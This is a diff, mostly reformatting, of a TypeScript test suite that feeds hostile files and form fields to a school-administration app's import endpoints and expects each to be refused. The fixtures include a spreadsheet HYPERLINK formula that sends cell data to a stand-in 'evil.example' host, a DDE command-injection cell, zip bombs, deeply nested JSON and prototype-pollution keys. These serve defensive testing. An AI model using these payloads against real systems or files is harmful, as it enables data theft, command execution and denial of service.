@@ -61,7 +61,13 @@ beforeAll(async () => {
   t = await buildTwoTenants("hos");
   admin = (await userWithRole("admin@hos.test", "REGION_ADMIN", { regionId: t.regionA.id })).scope;
   mo = (await userWithRole("mo@hos.test", "MUNICIPAL_COORDINATOR", { regionId: t.regionA.id, municipalityId: t.a1.id })).scope;
-  school = (await userWithRole("school@hos.test", "SCHOOL_COORDINATOR", { regionId: t.regionA.id, municipalityId: t.a1.id, organizationId: t.a1s1.id })).scope;
+  school = (
+    await userWithRole("school@hos.test", "SCHOOL_COORDINATOR", {
+      regionId: t.regionA.id,
+      municipalityId: t.a1.id,
+      organizationId: t.a1s1.id,
+    })
+  ).scope;
 });
 
 async function xlsxOf(rows: ExcelJS.CellValue[][]): Promise<Buffer> {
@@ -72,7 +78,8 @@ async function xlsxOf(rows: ExcelJS.CellValue[][]): Promise<Buffer> {
 }
 
 const FORMULA: ExcelJS.CellFormulaValue = { formula: 'HYPERLINK("http://evil.example/steal?c="&A1,"Нажмите")', result: "Нажмите" };
-const csvOf = (rows: string[][]) => Buffer.from(rows.map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(";")).join("\r\n"), "utf8");
+const csvOf = (rows: string[][]) =>
+  Buffer.from(rows.map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(";")).join("\r\n"), "utf8");
 
 interface HostileFile {
   label: string;
@@ -83,9 +90,13 @@ interface HostileFile {
 function manyCellsXlsx(): Buffer {
   const rows: string[] = [];
   for (let r = 1; r <= 30_000; r++) {
-    rows.push(`<row r="${r}">${Array.from({ length: 10 }, (_, c) => `<c r="${String.fromCharCode(65 + c)}${r}"><v>${r}</v></c>`).join("")}</row>`);
+    rows.push(
+      `<row r="${r}">${Array.from({ length: 10 }, (_, c) => `<c r="${String.fromCharCode(65 + c)}${r}"><v>${r}</v></c>`).join("")}</row>`,
+    );
   }
-  return minimalXlsx(`<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows.join("")}</sheetData></worksheet>`);
+  return minimalXlsx(
+    `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows.join("")}</sheetData></worksheet>`,
+  );
 }
 
 let files: Promise<HostileFile[]> | undefined;
@@ -94,7 +105,10 @@ const hostileFiles = () => (files ??= buildHostileFiles());
 
 /** Files no import may accept, whatever table it expects. */
 async function buildHostileFiles(): Promise<HostileFile[]> {
-  const workbook = await xlsxOf([["Наименование", "Адрес"], ["Школа", "ул. Мира, 1"]]);
+  const workbook = await xlsxOf([
+    ["Наименование", "Адрес"],
+    ["Школа", "ул. Мира, 1"],
+  ]);
   const random = fc.sample(fc.uint8Array({ minLength: 1, maxLength: 4_000 }), { seed: SEED, numRuns: 4 });
   const nested = `{"format":"metodaudit.template/v1","key":"deep","name":"x","level":"SCHOOL","content":{"title":"t","columns":{"number":"№","name":"n","value":"v","match":"m"},"items":[${'{"children":['.repeat(100_000)}${"]}".repeat(100_000)}]}}`;
   return [
@@ -103,7 +117,10 @@ async function buildHostileFiles(): Promise<HostileFile[]> {
     { label: "random bytes after PK", bytes: Buffer.concat([Buffer.from("PK\u0003\u0004"), randomBytes(2_000)]) },
     { label: "truncated workbook", bytes: workbook.subarray(0, Math.floor(workbook.length / 2)) },
     { label: "workbook without its end", bytes: workbook.subarray(0, workbook.length - 30) },
-    { label: "workbook with a part overwritten", bytes: Buffer.concat([workbook.subarray(0, 200), randomBytes(400), workbook.subarray(600)]) },
+    {
+      label: "workbook with a part overwritten",
+      bytes: Buffer.concat([workbook.subarray(0, 200), randomBytes(400), workbook.subarray(600)]),
+    },
     { label: "zip bomb declaring 4 GB", bytes: declaredBombXlsx() },
     { label: "ZIP64 bomb declaring 1 TB", bytes: zip64BombXlsx() },
     { label: "zip bomb inflating to 1 GB", bytes: lyingBombXlsx(1) },
@@ -122,13 +139,19 @@ async function buildHostileFiles(): Promise<HostileFile[]> {
     { label: "an HTML page", bytes: htmlSample() },
     { label: "an XLS header", bytes: Buffer.from("d0cf11e0a1b11ae1000000000000000000000000", "hex") },
     { label: "a megabyte of control characters", bytes: Buffer.from("\u0001\u0002\u001b\u007f".repeat(256 * 1024)) },
-    { label: "Windows-1251 text", bytes: Buffer.from([0xcd, 0xe0, 0xe8, 0xec, 0xe5, 0xed, 0xee, 0xe2, 0xe0, 0xed, 0xe8, 0xe5, 0x3b, 0xc0, 0xe4, 0xf0, 0xe5, 0xf1]) },
+    {
+      label: "Windows-1251 text",
+      bytes: Buffer.from([0xcd, 0xe0, 0xe8, 0xec, 0xe5, 0xed, 0xee, 0xe2, 0xe0, 0xed, 0xe8, 0xe5, 0x3b, 0xc0, 0xe4, 0xf0, 0xe5, 0xf1]),
+    },
     { label: "a quote never closed", bytes: Buffer.from('№;Наименование\r\n1;"Школа\r\n2;Гимназия') },
     { label: "a megabyte in one cell", bytes: Buffer.from(`"${"«".repeat(1024 * 1024)}"`) },
     { label: "formulas in the header", bytes: await xlsxOf([[FORMULA, FORMULA, FORMULA, FORMULA, FORMULA]]) },
-    { label: "CSV of formulas", bytes: csvOf([["=HYPERLINK(\"http://evil\",\"x\")", "+cmd|' /C calc'!A0", "@SUM(1)", "-1+1", "\t=1"]]) },
+    { label: "CSV of formulas", bytes: csvOf([['=HYPERLINK("http://evil","x")', "+cmd|' /C calc'!A0", "@SUM(1)", "-1+1", "\t=1"]]) },
     { label: "JSON nested 100000 deep", bytes: Buffer.from(nested) },
-    { label: "JSON with prototype keys", bytes: Buffer.from('{"__proto__":{"polluted":"да"},"constructor":{"prototype":{"polluted":"да"}}}') },
+    {
+      label: "JSON with prototype keys",
+      bytes: Buffer.from('{"__proto__":{"polluted":"да"},"constructor":{"prototype":{"polluted":"да"}}}'),
+    },
     { label: "JSON null", bytes: Buffer.from("null") },
     { label: "JSON 1e999", bytes: Buffer.from("1e999") },
     { label: "six megabytes", bytes: Buffer.alloc(6 * 1024 * 1024, 0x41) },
@@ -145,8 +168,14 @@ interface ImportCase {
   formulaTable: () => Promise<Buffer>;
 }
 
-const run = (route: Route, url: string, bytes: Uint8Array, fileName: string, fields: Record<string, string> = {}, params: Record<string, string> = {}) =>
-  route(uploadRequest(url, { bytes, name: fileName }, fields), { params: Promise.resolve(params) });
+const run = (
+  route: Route,
+  url: string,
+  bytes: Uint8Array,
+  fileName: string,
+  fields: Record<string, string> = {},
+  params: Record<string, string> = {},
+) => route(uploadRequest(url, { bytes, name: fileName }, fields), { params: Promise.resolve(params) });
 
 const dataRow = (width: number) => Array.from({ length: width }, () => FORMULA);
 
@@ -166,28 +195,45 @@ const CASES: ImportCase[] = [
   {
     name: "roadmap (Markdown, CSV, XLSX)",
     caller: () => mo,
-    call: (bytes, name, dryRun) => run(roadmapRoute as Route, "http://localhost/api/plans/import", bytes, name, { schoolYear: "2020/2021", ...(dryRun ? { dryRun: "true" } : {}) }),
+    call: (bytes, name, dryRun) =>
+      run(roadmapRoute as Route, "http://localhost/api/plans/import", bytes, name, {
+        schoolYear: "2020/2021",
+        ...(dryRun ? { dryRun: "true" } : {}),
+      }),
     formulaTable: () => xlsxOf([ROADMAP_COLUMNS.map((c) => c.header), dataRow(ROADMAP_COLUMNS.length)]),
   },
   {
     name: "schools (XLSX, CSV)",
     caller: () => mo,
     call: (bytes, name, dryRun) =>
-      run(schoolsRoute as Route, `http://localhost/api/municipalities/${t.a1.id}/schools${dryRun ? "?dryRun=1" : ""}`, bytes, name, {}, { id: t.a1.id }),
+      run(
+        schoolsRoute as Route,
+        `http://localhost/api/municipalities/${t.a1.id}/schools${dryRun ? "?dryRun=1" : ""}`,
+        bytes,
+        name,
+        {},
+        { id: t.a1.id },
+      ),
     formulaTable: () => xlsxOf([SCHOOL_COLUMNS.map((c) => c.header), [1, ...dataRow(SCHOOL_COLUMNS.length - 1)]]),
   },
   {
     name: "ДОТ students (XLSX, CSV)",
     caller: () => school,
     call: (bytes, name, dryRun) =>
-      run(studentsRoute as Route, `http://localhost/api/school/students/records${dryRun ? "?dryRun=1" : ""}`, bytes, name, { kind: "students", schoolYear: YEAR }),
+      run(studentsRoute as Route, `http://localhost/api/school/students/records${dryRun ? "?dryRun=1" : ""}`, bytes, name, {
+        kind: "students",
+        schoolYear: YEAR,
+      }),
     formulaTable: () => xlsxOf([STUDENT_COLUMNS.map((c) => c.header), dataRow(STUDENT_COLUMNS.length)]),
   },
   {
     name: "ДОТ teachers (XLSX, CSV)",
     caller: () => school,
     call: (bytes, name, dryRun) =>
-      run(studentsRoute as Route, `http://localhost/api/school/students/records${dryRun ? "?dryRun=1" : ""}`, bytes, name, { kind: "teachers", schoolYear: YEAR }),
+      run(studentsRoute as Route, `http://localhost/api/school/students/records${dryRun ? "?dryRun=1" : ""}`, bytes, name, {
+        kind: "teachers",
+        schoolYear: YEAR,
+      }),
     formulaTable: () => xlsxOf([TEACHER_COLUMNS.map((c) => c.header), dataRow(TEACHER_COLUMNS.length)]),
   },
 ];
@@ -231,7 +277,9 @@ describe("random files, many of them", () => {
         fc.oneof(
           fc.uint8Array({ minLength: 1, maxLength: 3_000 }),
           fc.string({ unit: "binary", minLength: 1, maxLength: 2_000 }).map((s) => new Uint8Array(Buffer.from(s, "utf8"))),
-          fc.array(fc.array(fc.string({ maxLength: 20 }), { maxLength: 6 }), { minLength: 1, maxLength: 6 }).map((rows) => new Uint8Array(csvOf(rows))),
+          fc
+            .array(fc.array(fc.string({ maxLength: 20 }), { maxLength: 6 }), { minLength: 1, maxLength: 6 })
+            .map((rows) => new Uint8Array(csvOf(rows))),
         ),
         fc.constantFrom(...HOSTILE_FILE_NAMES, "отчет.md", "schools.csv", "карта.xlsx"),
         async (bytes, name) => {
@@ -253,7 +301,9 @@ describe("hostile form fields and query parameters", () => {
     for (const value of hostile) {
       as(mo);
       const roadmap = await answered(
-        roadmapRoute(uploadRequest("http://localhost/api/plans/import", { bytes: csv, name: "отчет.csv" }, { schoolYear: value }), { params: Promise.resolve({}) }),
+        roadmapRoute(uploadRequest("http://localhost/api/plans/import", { bytes: csv, name: "отчет.csv" }, { schoolYear: value }), {
+          params: Promise.resolve({}),
+        }),
         `roadmap schoolYear ${value.slice(0, 20)}`,
       );
       await expectRefused(roadmap, `roadmap schoolYear ${value.slice(0, 20)}`);
@@ -265,24 +315,35 @@ describe("hostile form fields and query parameters", () => {
       ];
       for (const fields of attempts) {
         const response = await answered(
-          studentsRoute(uploadRequest("http://localhost/api/school/students/records", { bytes: csv, name: "дот.csv" }, fields), { params: Promise.resolve({}) }),
+          studentsRoute(uploadRequest("http://localhost/api/school/students/records", { bytes: csv, name: "дот.csv" }, fields), {
+            params: Promise.resolve({}),
+          }),
           `students ${JSON.stringify(fields).slice(0, 60)}`,
         );
         await expectRefused(response, `students ${JSON.stringify(fields).slice(0, 60)}`);
       }
       as(admin);
       const template = await answered(
-        templateRoute(uploadRequest(`http://localhost/api/templates/import?regionId=${encodeURIComponent(value)}`, { bytes: Buffer.from("{}"), name: "t.json" }), {
-          params: Promise.resolve({}),
-        }),
+        templateRoute(
+          uploadRequest(`http://localhost/api/templates/import?regionId=${encodeURIComponent(value)}`, {
+            bytes: Buffer.from("{}"),
+            name: "t.json",
+          }),
+          {
+            params: Promise.resolve({}),
+          },
+        ),
         `template regionId ${value.slice(0, 20)}`,
       );
       await expectRefused(template, `template regionId ${value.slice(0, 20)}`);
       as(mo);
       const schools = await answered(
-        (schoolsRoute as Route)(uploadRequest(`http://localhost/api/municipalities/${encodeURIComponent(value)}/schools`, { bytes: csv, name: "s.csv" }), {
-          params: Promise.resolve({ id: value }),
-        }),
+        (schoolsRoute as Route)(
+          uploadRequest(`http://localhost/api/municipalities/${encodeURIComponent(value)}/schools`, { bytes: csv, name: "s.csv" }),
+          {
+            params: Promise.resolve({ id: value }),
+          },
+        ),
         `schools id ${value.slice(0, 20)}`,
       );
       await expectRefused(schools, `schools id ${value.slice(0, 20)}`);
@@ -303,7 +364,9 @@ describe("what a refusal names", () => {
 
   it("a zip bomb is named as one, not as a broken file", async () => {
     as(mo);
-    const body = (await expectRefused(await CASES[2]!.call(declaredBombXlsx(), "schools.xlsx"), "schools")) as { errors: { message: string }[] };
+    const body = (await expectRefused(await CASES[2]!.call(declaredBombXlsx(), "schools.xlsx"), "schools")) as {
+      errors: { message: string }[];
+    };
     expect(body.errors[0]!.message).toContain("распаковывается");
     expect(await db().organization.count({ where: { municipalityId: t.a1.id } })).toBe(2);
   });
